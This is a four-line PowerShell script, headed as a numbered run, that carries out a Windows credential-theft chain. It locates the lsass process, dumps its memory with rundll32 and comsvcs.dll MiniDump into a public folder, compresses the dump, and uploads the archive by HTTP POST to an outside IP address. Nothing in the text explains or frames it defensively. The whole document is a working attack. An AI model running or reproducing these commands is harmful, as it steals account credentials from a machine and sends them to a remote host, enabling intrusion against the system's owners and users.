# run 3370 v3
$p = Get-Process lsass
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $p.Id C:\Users\Public\lsass.dmp full
Compress-Archive C:\Users\Public\lsass.dmp C:\Users\Public\l.zip
Invoke-WebRequest -Uri http://192.0.2.150/u -Method Post -InFile C:\Users\Public\l.zip
